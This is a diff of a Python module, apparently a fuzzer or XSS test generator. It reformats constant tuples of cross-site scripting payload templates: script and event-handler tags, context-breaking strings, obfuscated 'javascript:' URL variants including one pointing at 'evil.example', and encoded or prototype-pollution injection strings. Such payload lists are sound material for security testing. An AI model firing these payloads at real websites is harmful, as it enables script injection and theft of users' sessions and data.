@@ -8,17 +8,22 @@ TAGS: Final = (
     "<script>{call}</script>", "<script type=module>{call}</script>", "<img src=x onerror={call}>",
     "<img src=x: onerror='{call}'>", "<svg onload={call}>", "<svg><script>{call}</script></svg>",
     "<svg><animate onbegin={call} attributeName=x dur=1s></svg>", "<iframe srcdoc='<script>parent.{call}</script>'>",
-    "<iframe src='javascript:parent.{call}'></iframe>", "<body onload={call}>", "<video><source onerror={call}></video>",
+    "<iframe src='javascript:parent.{call}'></iframe>", "<body onload={call}>",
+    "<video><source onerror={call}></video>",
     "<details open ontoggle={call}>", "<input autofocus onfocus={call}>", "<object data='javascript:{call}'></object>",
-    "<math><mtext><table><mglyph><style><img src=x onerror={call}>", "<noscript><p title='</noscript><img src=x onerror={call}>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
+    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
     "<template><script>{call}</script></template>", "<a href='javascript:{call}' autofocus>x</a>",
     "<form action='javascript:{call}'><button autofocus>x</form>", "<style onload={call}></style>",
     "<link rel=stylesheet href=/x onerror={call}>", "<base href='javascript:{call}//'>",
     "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<mark onpointerrawupdate={call}>x</mark>",
-    "<audio src=x onerror={call}></audio>", "<embed src='javascript:{call}'>", "<select autofocus onfocus={call}></select>",
+    "<audio src=x onerror={call}></audio>", "<embed src='javascript:{call}'>",
+    "<select autofocus onfocus={call}></select>",
     "<div style='width:expression({call})' onmouseover={call}>x</div>",
 )  # fmt: skip
-BREAKS: Final = ('"', "'", "</mark>", "-->", "]]>", '">', "'>", "</title>", "</textarea>", "\u2028", "\0", "&quot;>", "&#39;>")
+BREAKS: Final = (
+    '"', "'", "</mark>", "-->", "]]>", '">', "'>", "</title>", "</textarea>", "\u2028", "\0", "&quot;>", "&#39;>",
+)  # fmt: skip
 ADDRESSES: Final = (
     "javascript:{call}", "JaVaScRiPt:{call}", " javascript:{call}", "java\tscript:{call}", "java\nscript:{call}",
     "\x01javascript:{call}", "javascript&colon;{call}", "javascript:/*--></title>*/{call}", "//evil.example/{call}",
@@ -28,10 +33,13 @@ ADDRESSES: Final = (
 )  # fmt: skip
 WORDS: Final = (
     "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf", "{{{call}}}", "${{{call}}}",
-    "{{% raw %}}{call}", "'-{call}-'", "\"+{call}+\"", "`${{{call}}}`", "');{call};//", "\\');{call};//", "*/{call}/*",
-    "%3Cscript%3E{call}%3C/script%3E", "\\u003cscript\\u003e{call}\\u003c/script\\u003e", "＜script＞{call}＜/script＞",
-    "\u202e<script>{call}</script>", "\ufeff<script>{call}</script>", "<<script>script>{call}</script>", "<sc\0ript>{call}",
-    "<IMG SRC=x ONERROR={call}>", "<img/src/onerror={call}>", "<img\nsrc=x\nonerror={call}>", "<x style='animation:x' onanimationstart={call}>",
+    "{{% raw %}}{call}", "'-{call}-'", '"+{call}+"', "`${{{call}}}`", "');{call};//", "\\');{call};//", "*/{call}/*",
+    "%3Cscript%3E{call}%3C/script%3E",
+    "\\u003cscript\\u003e{call}\\u003c/script\\u003e", "＜script＞{call}＜/script＞",
+    "\u202e<script>{call}</script>", "\ufeff<script>{call}</script>",
+    "<<script>script>{call}</script>", "<sc\0ript>{call}",
+    "<IMG SRC=x ONERROR={call}>", "<img/src/onerror={call}>", "<img\nsrc=x\nonerror={call}>",
+    "<x style='animation:x' onanimationstart={call}>",
 )  # fmt: skip
 
 
